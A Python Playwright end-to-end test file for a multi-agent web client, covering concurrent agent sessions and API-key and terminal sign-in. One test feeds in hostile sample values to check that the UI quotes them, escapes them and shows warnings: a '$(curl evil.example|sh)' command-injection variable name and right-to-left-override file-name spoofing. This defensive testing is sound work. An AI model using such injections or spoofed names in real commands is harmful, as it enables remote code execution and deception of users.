"""Several agents in one page, and signing in: a settings file with a scripted agent beside the demo
agent, and a scripted agent that asks for an API key. Screenshots at desktop and phone size, light and
dark, for each state."""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
from playwright.sync_api import Browser, Page, ViewportSize, expect

from tests.support import screenshots
from tests.support.accessibility import assert_accessible
from tests.support.browser import open_signed_in, sign_in
from tests.support.live import AGENTS, LiveServer, scripted_agent, serve_in_thread
from tests.support.pages import agent_messages, chips, prompt
from tests.support.screenshots import screenshot

VARIANTS: dict[str, tuple[ViewportSize, Literal["light", "dark"]]] = {
    "desktop-light": ({"width": 1280, "height": 800}, "light"),
    "desktop-dark": ({"width": 1280, "height": 800}, "dark"),
    "phone-light": ({"width": 390, "height": 844}, "light"),
    "phone-dark": ({"width": 390, "height": 844}, "dark"),
}


@pytest.fixture
def own_config_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty XDG config folder for the test, where its servers (on threads of this process) read and
    remember sign-ins."""
    home = tmp_path / "xdg"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home))
    return home


@pytest.fixture
def two_agents(e2e_workspace: Path, tmp_path: Path, own_config_home: Path) -> Iterator[LiveServer]:
    """The demo agent and a scripted "Echo" agent from a settings file."""
    config = tmp_path / "settings.json"
    echo = {"command": sys.executable, "args": [str(AGENTS / "echo_agent.py")]}
    config.write_text("// two agents\n" + json.dumps({"agent_servers": {"Echo": echo}}))
    state = {"WEBCLIENT_DEMO_STATE_DIR": str(tmp_path / "state")}
    with serve_in_thread(cwd=e2e_workspace, extra_args=["--config", str(config)], agent_env=state) as live:
        yield live


@pytest.fixture
def key_agent(e2e_workspace: Path, own_config_home: Path) -> Iterator[LiveServer]:
    with serve_in_thread(scripted_agent("env_sign_in"), cwd=e2e_workspace) as live:
        yield live


def shoot_variants(browser: Browser, server: LiveServer, path: str, name: str) -> None:
    """Screenshots of `path` in every size and colour scheme (each in a browser context of its own)."""
    if not screenshots.wanted():
        return
    for variant, (viewport, scheme) in VARIANTS.items():
        context = browser.new_context(viewport=viewport, color_scheme=scheme)
        sign_in(context, server)  # the printed link signs in once; every other browser uses its cookie
        page = context.new_page()
        page.goto(server.base + path)
        expect(page.get_by_test_id("agent-status")).not_to_have_attribute("data-state", "starting")
        screenshot(page, f"{name}-{variant}")
        context.close()


def shoot_here(page: Page, name: str) -> None:
    """Screenshots of the page as it is now (a passing state) in every size and colour scheme, each size
    scanned with axe-core whether or not the run takes screenshots."""
    for variant, (viewport, scheme) in VARIANTS.items():
        # Reduced motion: the phone's sessions drawer slides away without a transition to catch midway.
        page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
        page.set_viewport_size(viewport)
        screenshot(page, f"{name}-{variant}")
    page.set_viewport_size({"width": 1100, "height": 800})
    page.emulate_media(color_scheme="light", reduced_motion="no-preference")


@pytest.fixture
def slow_agent(e2e_workspace: Path, tmp_path: Path, own_config_home: Path) -> Iterator[LiveServer]:
    """An agent whose session/new takes 4 s (as claude-agent-acp's takes about 1.5 s), except the first."""
    agent = scripted_agent("env_report", str(tmp_path / "report.json"), "4", "2")
    with serve_in_thread(agent, cwd=e2e_workspace) as live:
        yield live


def test_a_prompt_sent_while_the_session_opens_waits_for_it_and_is_answered(
    page: Page, slow_agent: LiveServer
) -> None:
    open_signed_in(page, slow_agent)
    status = page.get_by_test_id("agent-status")
    expect(status).to_have_attribute("data-state", "ready", timeout=30_000)
    page.get_by_test_id("new-session").click()
    expect(page).to_have_url(re.compile(r"/s/s2$"))
    expect(status).to_have_attribute("data-state", "opening")
    composer = page.get_by_test_id("composer")
    composer.fill("sent early")
    composer.press("Enter")
    expect(status).to_contain_text("your prompt waits")
    shoot_here(page, "agents-opening")
    expect(agent_messages(page).last).to_contain_text("reported to report.json", timeout=30_000)
    expect(status).to_have_attribute("data-state", "ready")
    expect(page.get_by_test_id("notice")).to_have_count(0)


def test_two_agents_answer_side_by_side_in_two_sessions(
    page: Page, browser: Browser, two_agents: LiveServer
) -> None:
    open_signed_in(page, two_agents)
    expect(page).to_have_url(re.compile(r"/s/s1$"))
    expect(page.get_by_test_id("agent-status")).to_have_attribute("data-state", "ready")
    choices = page.get_by_test_id("new-session-agent").locator("option")
    expect(choices).to_have_text(["Demo agent", "Echo"])

    page.get_by_test_id("new-session-agent").select_option("Echo")
    page.get_by_test_id("new-session").click()
    expect(page).to_have_url(re.compile(r"/s/s2$"))
    # The header names the agent once, as it calls itself; the settings' name is on hover.
    expect(page.get_by_test_id("agent-name")).to_have_text("scripted 0")
    expect(page.get_by_test_id("agent-name")).to_have_attribute("title", "Echo")

    # A second tab on the demo session: both agents at once, each answering its own session.
    demo = page.context.new_page()
    demo.goto(two_agents.base + "/s/s1")
    expect(demo.get_by_test_id("agent-status")).to_have_attribute("data-state", "ready")
    page.get_by_test_id("composer").fill("the same question")
    demo.get_by_test_id("composer").fill("list files")
    page.get_by_test_id("composer").press("Enter")
    demo.get_by_test_id("composer").press("Enter")
    expect(agent_messages(page).last).to_contain_text("You said: the same question", timeout=30_000)
    expect(agent_messages(demo).last).to_contain_text("README.md", timeout=30_000)
    expect(chips(demo).first).to_be_visible()
    expect(page.get_by_test_id("agent-status")).to_have_attribute("data-state", "ready")

    agents = page.get_by_test_id("session-agent")
    expect(agents).to_have_text(["Demo agent", "Echo"])
    prompt(page, "and again")  # the Echo session goes on
    screenshot(page, "agents-two-sessions")
    shoot_variants(browser, two_agents, "/s/s2", "agents-echo")
    shoot_variants(browser, two_agents, "/s/s1", "agents-demo")


def test_signing_in_with_an_api_key_in_the_page(page: Page, browser: Browser, key_agent: LiveServer) -> None:
    open_signed_in(page, key_agent)
    expect(page.get_by_test_id("agent-status")).to_have_attribute("data-state", "auth-required")
    sign_in = page.get_by_test_id("auth")
    expect(sign_in.get_by_test_id("auth-command")).to_contain_text("env_sign_in.py --login")
    key = sign_in.get_by_test_id("auth-var")
    expect(key).to_have_attribute("type", "password")
    assert_accessible(page, "the sign-in card")
    shoot_variants(browser, key_agent, "/s/s1", "agents-sign-in")

    sign_in.get_by_test_id("auth-method").click()  # a browser login that never answers
    expect(sign_in.get_by_test_id("auth-pending")).to_be_visible()
    shoot_here(page, "agents-sign-in-pending")
    key.fill("sk-e2e-4242")
    sign_in.get_by_test_id("auth-env-submit").click()
    expect(page.get_by_test_id("agent-status")).to_have_attribute("data-state", "ready", timeout=30_000)
    expect(sign_in).to_be_hidden()
    prompt(page, "who am I")
    expect(agent_messages(page).last).to_contain_text("a key ending 4242")


def test_a_terminal_sign_in_shows_odd_variable_names_quoted_and_hidden_characters_as_escapes(
    page: Page, e2e_workspace: Path, own_config_home: Path
) -> None:
    with serve_in_thread(scripted_agent("env_sign_in", "--odd-terminal"), cwd=e2e_workspace) as live:
        open_signed_in(page, live)
        expect(page.get_by_test_id("agent-status")).to_have_attribute("data-state", "auth-required")
        sign_in = page.get_by_test_id("auth")
        command = sign_in.get_by_test_id("auth-command")
        expect(command).to_contain_text(
            "env LOGIN_MODE=device '$(curl evil.example|sh)=1' $'SAFE\\u202eEMAN=x' "
        )
        expect(command).to_contain_text(
            "env_sign_in.py --odd-terminal --login $'--out=invoice_\\u202efdp.exe'"
        )
        assert "\u202e" not in command.inner_text()  # the override itself is never in the line
        assert "A=B" not in command.inner_text()
        warning = sign_in.get_by_test_id("auth-command-warning")
        expect(warning).to_contain_text("not plain names")
        expect(warning).to_contain_text("'$(curl evil.example|sh)'")
        expect(warning).to_contain_text("right-to-left override")
        expect(warning).to_contain_text("Left out, since no variable can have that name: A=B.")
        unusable = sign_in.get_by_test_id("auth-unusable-vars")
        expect(unusable).to_contain_text("asks for A=B, KEY⟨U+202E⟩X, which cannot be the name")
        expect(sign_in.get_by_test_id("auth-var")).to_have_count(1)  # only the usable one is asked for
        for variant, (viewport, scheme) in VARIANTS.items():  # each warning in view at every size
            page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
            page.set_viewport_size(viewport)
            for name, shown in (("form", unusable), ("command", warning)):
                shown.scroll_into_view_if_needed()
                screenshot(page, f"agents-sign-in-odd-{name}-{variant}")
